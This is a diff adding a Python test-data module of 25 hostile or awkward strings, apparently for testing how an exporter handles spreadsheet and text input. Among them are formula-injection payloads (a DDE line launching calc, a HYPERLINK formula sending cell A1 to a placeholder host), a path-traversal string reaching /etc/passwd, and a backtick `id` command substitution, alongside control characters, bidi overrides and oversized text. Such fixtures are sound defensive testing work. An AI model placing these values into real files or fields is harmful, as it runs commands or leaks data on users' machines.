@@ -1,0 +1,30 @@
+"""Texts that somebody could type, paste or put into a file to do harm, or that a program could stumble over."""
+
+PAYLOADS = (
+    "=1+1",
+    "=cmd|'/c calc'!A0",
+    '=HYPERLINK("http://x.invalid/?"&A1,"点这里")',
+    "+86-10-1234",
+    "-2+3",
+    "@SUM(1+1)*cmd|'/c calc'!A0",
+    "\t=1+1",
+    "\r\n=1+1",
+    "\u202e=1+1\u202c",
+    "＝1+1",
+    "'=1+1",
+    "#N/A",
+    "#REF!",
+    "{=SUM(A1:A9)}",
+    "前\x00\x07\x1b[31m后",
+    "\ud800孤\uffff",
+    "一\u2028二\x85三\v四",
+    "\u202e倒过来\u202c\u200b\u2066隔开\u2069",
+    "👨‍👩‍👧‍👦🏳️‍🌈𠮷",
+    "Z̷̢̛̛̘̹͚a̷l̴g̸o" + "\u0301" * 60,
+    "<b>粗</b> & <w:p/> ]]> &amp; <!--",
+    "../../etc/passwd\\..\\C:\\con.txt",
+    "{PAGE} «x» \\t %s {0} $HOME `id`",
+    "2026-11-22T09:00:00",
+    "长" * 33_000,
+)
+assert len(PAYLOADS) == len(set(PAYLOADS)) == 25
